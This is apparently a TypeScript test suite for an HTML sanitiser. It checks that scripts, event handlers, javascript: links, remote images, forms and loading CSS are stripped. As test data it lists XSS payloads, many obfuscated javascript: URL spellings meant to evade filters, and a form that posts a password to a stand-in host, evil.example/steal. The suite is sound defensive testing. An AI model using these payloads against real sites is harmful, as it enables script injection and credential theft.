/**
 * The pickup page's HTML sanitiser: scripts, event handlers, javascript: (also obfuscated) URLs,
 * remote images, forms and CSS that loads or runs something are removed; what is kept is checked by
 * re-reading the output with an independent strict validator (every tag and attribute on the
 * allow-list, every URL safe), also for generated hostile input.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { sanitizeHtml, sanitizedDocument, sanitizeStyleAttribute, sanitizeStylesheet, safeLink } from '../../src/pickup/sanitize.js';

const TAGS = new Set('a abbr address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p pre q s samp section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr'.split(' '));
const ATTRS = new Set('align valign bgcolor color width height border dir lang title style class face size nowrap clear hspace vspace href src alt cellpadding cellspacing summary frame rules colspan rowspan abbr scope headers span start type reversed value datetime open target rel'.split(' '));

/** An independent check of sanitiser output: throws on anything outside the allow-list. */
function validate(out: string): void {
  // outside tags there is no '<' or '>' at all
  const tagRe = /<(\/?)([a-z0-9]+)((?:\s+[a-z-]+="[^"<>]*")*)\s*>/g;
  let last = 0;
  for (const m of out.matchAll(tagRe)) {
    const between = out.slice(last, m.index);
    assert.ok(!/[<>]/.test(between), `raw markup outside a tag: ${JSON.stringify(between.slice(0, 80))}`);
    last = m.index! + m[0].length;
    assert.ok(TAGS.has(m[2]!), `tag <${m[2]}> is not allowed`);
    for (const a of m[3]!.matchAll(/([a-z-]+)="([^"]*)"/g)) {
      const [, name, value] = a;
      assert.ok(ATTRS.has(name!), `attribute ${name} is not allowed`);
      if (name === 'href') assert.match(value!, /^(https?:\/\/|mailto:|tel:|#)/i, `href ${value}`);
      if (name === 'src') assert.match(value!, /^data:image\/(png|gif|jpeg|jpg|webp|bmp);base64,[A-Za-z0-9+/=]+$/i, `src ${value}`);
      if (name === 'style') assert.doesNotMatch(value!, /url\(|expression|javascript|@import|\\/i, `style ${value}`);
    }
  }
  assert.ok(!/[<>]/.test(out.slice(last)), 'raw markup after the last tag');
}

describe('sanitizeHtml', () => {
  it('removes scripts with their content, in every spelling', () => {
    for (const input of [
      '<p>hi</p><script>alert(1)</script>',
      '<p>hi</p><SCRIPT type="text/javascript">alert(1)</SCRIPT >',
      '<p>hi</p><script>document.write("</scr"+"ipt>")</script>',
      '<p>hi</p><script src="https://evil.example/x.js"></script>',
      '<p>hi</p><script>alert(1)',
      '<p>hi</p><svg><script>alert(1)</script></svg>',
      '<p>hi</p><math><mtext><script>alert(1)</script></mtext></math>',
      '<p>hi</p><noscript><img src=x onerror=alert(1)></noscript>',
      '<p>hi</p><iframe src="javascript:alert(1)"></iframe>',
      '<p>hi</p><object data="x.swf"></object><embed src="x.swf">',
      '<p>hi</p><template><script>alert(1)</script></template>',
    ]) {
      const s = sanitizeHtml(input);
      validate(s.body);
      assert.ok(!/alert|evil|swf/i.test(s.body), `${input} -> ${s.body}`);
      assert.match(s.body, /<p>hi<\/p>/);
    }
    assert.equal(sanitizeHtml('<script>1</script><script>2</script>').removed.scripts, 2);
  });

  it('drops event handlers and keeps the element', () => {
    const s = sanitizeHtml('<div onclick="alert(1)" onmouseover=alert(2) ONLOAD=\'x\' title="t">x</div><img src="data:image/png;base64,iVBORw0KGgo=" onerror="alert(3)">');
    validate(s.body);
    assert.doesNotMatch(s.body, /on\w+=|alert/i);
    assert.match(s.body, /<div title="t">x<\/div>/);
    assert.equal(s.removed.handlers, 4);
  });

  it('keeps http(s), mailto and tel links (opening in a new tab) and removes javascript:, data: and relative ones, however written', () => {
    const ok = sanitizeHtml('<a href="https://example.com/a?b=1&amp;c=2">x</a><a href="mailto:a@b.example">m</a>');
    validate(ok.body);
    assert.match(ok.body, /href="https:\/\/example\.com\/a\?b=1&amp;c=2" target="_blank" rel="noopener noreferrer"/);
    assert.match(ok.body, /href="mailto:a@b\.example"/);
    for (const href of [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      ' javascript:alert(1)',
      'java\tscript:alert(1)',
      'java&#x09;script:alert(1)',
      'jav&#97;script:alert(1)',
      '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
      '&#0000106avascript:alert(1)',
      'javascript&colon;alert(1)',
      '\u0001javascript:alert(1)',
      'vbscript:msgbox(1)',
      'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
      '/relative/path',
      '//evil.example/x',
    ]) {
      const s = sanitizeHtml(`<a href="${href}">x</a>`);
      validate(s.body);
      assert.equal(s.body, '<a>x</a>', `${href} -> ${s.body}`);
    }
    assert.equal(safeLink('https://example.com'), 'https://example.com');
    assert.equal(safeLink('https:alert(1)'), undefined);
  });

  it('blocks remote images (keeping their description) and keeps inline data: and cid: images', () => {
    const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
    const s = sanitizeHtml(
      `<img src="https://tracker.example/p.gif" alt="logo"><img src="//x.example/a.png"><img src="${png}" alt="dot"><img src="cid:part1@x"><img src="cid:missing"><img src="data:image/svg+xml;base64,PHN2Zz4=">`,
      { resolveCid: (cid) => (cid === 'part1@x' ? png : undefined) },
    );
    validate(s.body);
    assert.doesNotMatch(s.body, /tracker|x\.example|svg/);
    assert.match(s.body, /\[logo\]/);
    assert.equal((s.body.match(/<img /g) ?? []).length, 2);
    assert.equal(s.removed.remoteImages, 4);
  });

  it('neutralises forms and their controls', () => {
    const s = sanitizeHtml('<form action="https://evil.example/steal" method="post"><label>Password <input type="password" name="p"></label><select><option>a</option></select><textarea>secret</textarea><button formaction="https://evil.example">Send</button></form><p>after</p>');
    validate(s.body);
    assert.doesNotMatch(s.body, /form|input|select|option|textarea|button|evil|secret/i);
    assert.match(s.body, /Password/);
    assert.match(s.body, /<p>after<\/p>/);
    assert.ok(s.removed.forms >= 4);
  });

  it('neutralises CSS that loads or runs something, in style attributes and <style> blocks', () => {
    assert.equal(sanitizeStyleAttribute('color: red; background: url(https://evil.example/x.png); width: 10px'), 'color: red; width: 10px');
    assert.equal(sanitizeStyleAttribute('background-image: u\\72l(https://evil.example)'), undefined);
    assert.equal(sanitizeStyleAttribute('width: expression(alert(1))'), undefined);
    assert.equal(sanitizeStyleAttribute('behavior: url(x.htc)'), undefined);
    // a comment splits tokens: what is kept is what was checked, and it is no url()
    assert.doesNotMatch(sanitizeStyleAttribute('background: ur/**/l(https://evil.example)') ?? '', /url\(/);
    assert.equal(sanitizeStyleAttribute('background: &#117;rl(https://evil.example)'), undefined);
    assert.equal(sanitizeStyleAttribute('color: blue'), 'color: blue');
    const css = sanitizeStylesheet('@import url(https://evil.example/a.css); @font-face { src: url(https://evil.example/f.woff) } body { background: url("https://evil.example/b.png"); color: red } </style><script>alert(1)</script>');
    assert.doesNotMatch(css, /@import|@font-face|<|url\(/i);
    // what is left of a loading function is an invalid one, which the browser drops with its declaration
    for (const m of css.matchAll(/evil\.example/g)) assert.match(css.slice(0, m.index), /blocked\("?https:\/\/$/);
    assert.match(css, /color: red/);
    assert.equal(sanitizeStylesheet('a { color: \\72 ed }'), '');
    const doc = sanitizedDocument('<html><head><style>p { color: green; background: url(https://evil.example/x) }</style><title>t</title></head><body><p style="color:red;background-image:url(https://evil.example/y)">x</p></body></html>').document;
    assert.doesNotMatch(doc, /url\(|<title>|evil\.example\/y/);
    assert.match(doc, /<style>p \{ color: green; background: blocked\(/);
    assert.match(doc, /<p style="color: red">x<\/p>/);
  });

  it('escapes text and keeps character references; comments, doctype and CDATA go', () => {
    // <![CDATA[ outside SVG/MathML is a bogus comment up to the first '>' (as in a browser): the rest is text
    const s = sanitizeHtml('<!doctype html><!-- <script>alert(1)</script> --><p>a &lt; b &amp; c & d <> &copy; &#x3c;script&#x3e;</p><![CDATA[<script>]]>');
    validate(s.body);
    assert.equal(s.body, '<p>a &lt; b &amp; c &amp; d &lt;&gt; &copy; &#x3c;script&#x3e;</p>]]&gt;');
  });

  it('closes what it opens and ignores stray end tags', () => {
    assert.equal(sanitizeHtml('<div><p><b>x</div></i>y').body, '<div><p><b>x</b></p></div>y');
    assert.equal(sanitizeHtml('<table><tr><td colspan="2" onclick="x">c</td></tr></table>').body, '<table><tr><td colspan="2">c</td></tr></table>');
  });

  it('survives hostile and malformed input: the output always validates', () => {
    const pieces = [
      '<', '>', '"', "'", '=', '/', '<a', '<img', '<script', '</script', '<style', '</style', '<!--', '-->', '<!', '<?', 'href=', 'src=', 'onerror=',
      'javascript:', 'alert(1)', 'https://evil.example/', 'data:text/html,', '<svg', '<math', '<iframe', ' ', '\n', '\t', '&', '&#', 'x', 'p', 'b>', '<p>', '</p>',
      '<form', '<input', 'style=', 'url(', '\\', '<textarea', '</textarea', '<plaintext', '<xmp', '&lt;', '`', 'expression(', '<base href=', '<meta http-equiv=refresh',
    ];
    let seed = 42;
    const rnd = () => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed;
    };
    for (let n = 0; n < 3000; n++) {
      let input = '';
      const len = 1 + (rnd() % 40);
      for (let i = 0; i < len; i++) input += pieces[rnd() % pieces.length];
      const out = sanitizeHtml(input).body;
      try {
        validate(out);
      } catch (e) {
        assert.fail(`input ${JSON.stringify(input)} -> ${JSON.stringify(out)}: ${(e as Error).message}`);
      }
      assert.doesNotMatch(out, /<(script|iframe|svg|math|form|input|textarea|base|meta|style)/i);
    }
  });
});
